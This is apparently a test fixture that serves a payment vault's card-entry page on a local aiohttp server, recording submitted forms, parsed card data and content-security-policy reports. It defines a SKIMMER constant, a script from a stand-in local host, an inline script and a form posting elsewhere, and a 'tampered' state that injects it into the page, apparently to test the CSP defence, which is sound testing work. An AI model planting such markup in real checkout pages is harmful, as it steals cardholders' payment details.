"""The vault's card page over a real HTTP server, with nothing of the vault behind it: what it is handed is kept."""

import hmac
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from aiohttp import web

from infra.chassis.clock import Clock
from vault.cleartext.hpke import PageKeys, SealedFor, SealedFormReplayed
from vault.cleartext.intake import (
    CardFormRefused,
    CardIntake,
    FormMalformed,
    KeptFields,
    read_form,
    take_card,
)
from vault.cleartext.issuers import CardBrand
from vault.cleartext.page.assets import STATIC
from vault.cleartext.page.authentication import (
    AuthenticationView,
    render_authentication_page,
    render_confirmed_page,
)
from vault.cleartext.page.language import ASKED_BY, Reader
from vault.cleartext.page.render import (
    PAGE_HEADERS,
    CardPageView,
    DonePageView,
    render_card_page,
    render_done_page,
    render_gone_page,
    render_moment_page,
    render_unavailable_page,
)
from vault.cleartext.pan import CardFlaw

CAPTURE_ID = "cap_abcdefghjkmnpq"
CSRF = "made-up-csrf"
REFUSED = CardFormRefused(
    (CardFlaw.NUMBER_INVALID, CardFlaw.EXPIRY_INVALID, CardFlaw.CODE_LENGTH, CardFlaw.HOLDER_MISSING), KeptFields()
)
SKIMMER = (
    '<script src="http://127.0.0.1:9/skim.js"></script><script>document.title = "taken"</script>'
    '<form id="elsewhere" action="http://127.0.0.1:9/take"></form>'
)
"""As somebody on the way puts it into a page: a script of theirs, a line of script, a form that leads to them."""
STATES = ("empty", "refused", "done", "gone", "unavailable", "moment", "bank", "confirmed")
AT_THE_BANK = AuthenticationView(7998, "USD", "https://hooks.stripe.com/redirect/authenticate/src_example")
PLACE = SealedFor("tnt_abcdefghjkmnpq", CAPTURE_ID)


@dataclass(slots=True)
class CardSite:
    """One capture. `bodies` are the posts as they came over the wire; `taken` is what the intake made of them."""

    clock: Clock
    keys: PageKeys = field(default_factory=PageKeys)
    bodies: list[bytes] = field(default_factory=list)
    taken: list[CardIntake] = field(default_factory=list)
    reports: list[bytes] = field(default_factory=list)
    url: str = ""

    async def take_report(self, request: web.Request) -> web.Response:
        assert request.content_type == "application/csp-report"
        self.reports.append(await request.read())
        return web.Response(status=204)

    def example_url(self, state: str, language: str) -> str:
        return f"{self.url.partition('/captures')[0]}/examples/{state}?language={language}"

    def card_page(self, reader: Reader, refused: CardFormRefused | None = None) -> str:
        return render_card_page(
            CardPageView(
                capture_id=CAPTURE_ID,
                brand_name="Larkspur & Vale",
                amount_minor=7998,
                currency="USD",
                csrf=CSRF,
                keys=self.keys.offered(PLACE, self.clock.now()),
                refused=refused,
            ),
            reader,
        )

    async def example(self, request: web.Request) -> web.Response:
        """One state of the page by its name, whatever happened before."""
        reader = _reader(request)
        done = DonePageView("Larkspur & Vale", 7998, "USD", CardBrand.AMEX, "0005")
        states = {
            "empty": lambda: self.card_page(reader),
            "refused": lambda: self.card_page(reader, REFUSED),
            "done": lambda: render_done_page(done, reader),
            "gone": lambda: render_gone_page(reader),
            "bank": lambda: render_authentication_page(AT_THE_BANK, reader),
            "confirmed": lambda: render_confirmed_page(AT_THE_BANK, reader),
            "unavailable": lambda: render_unavailable_page(reader),
            "moment": lambda: render_moment_page(reader),
            "tampered": lambda: self.card_page(reader).replace("</body>", f"{SKIMMER}</body>"),
        }
        return _page(states[request.match_info["state"]]())

    async def show(self, request: web.Request) -> web.Response:
        if not self.taken:
            return _page(self.card_page(_reader(request)))
        number = self.taken[-1].details.number
        return _page(
            render_done_page(
                DonePageView(
                    brand_name="Larkspur & Vale",
                    amount_minor=7998,
                    currency="USD",
                    card_brand=number.brand,
                    last4=number.last4,
                ),
                _reader(request),
            )
        )

    async def receive(self, request: web.Request) -> web.Response:
        body, reader = await request.read(), _reader(request)
        self.bodies.append(body)
        try:
            fields = read_form(body)
            if not hmac.compare_digest(fields.get("csrf", ""), CSRF):
                return _page(render_gone_page(reader), 403)
            self.taken.append(take_card(fields, place=PLACE, keys=self.keys, now=self.clock.now()))
        except CardFormRefused as refused:
            return _page(self.card_page(reader, refused), 422)
        except FormMalformed:
            return _page(render_gone_page(reader), 400)
        except SealedFormReplayed:
            pass  # what stands is shown
        return web.Response(status=303, headers={"Location": f"/captures/{CAPTURE_ID}{reader.query}"})


@asynccontextmanager
async def serve_card_site(clock: Clock) -> AsyncIterator[CardSite]:
    site = CardSite(clock)
    app = web.Application()
    app.router.add_get(f"/captures/{CAPTURE_ID}", site.show)
    app.router.add_get("/examples/{state}", site.example)
    app.router.add_post("/reports", site.take_report)
    app.router.add_post(f"/captures/{CAPTURE_ID}", site.receive)
    for asset in STATIC.values():
        app.router.add_get(asset.path, _file_handler(asset.content, asset.headers))
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        site.url = f"http://127.0.0.1:{runner.addresses[0][1]}/captures/{CAPTURE_ID}"
        yield site
    finally:
        await runner.cleanup()


def _reader(request: web.Request) -> Reader:
    return Reader(request.query.get(ASKED_BY, ""), request.headers.get("Accept-Language", ""))


def _page(html: str, status: int = 200) -> web.Response:
    return web.Response(body=html.encode(), status=status, headers=PAGE_HEADERS)


def _file_handler(content: bytes, headers: dict[str, str]):
    async def give(_request: web.Request) -> web.Response:
        return web.Response(body=content, headers=headers)

    return give
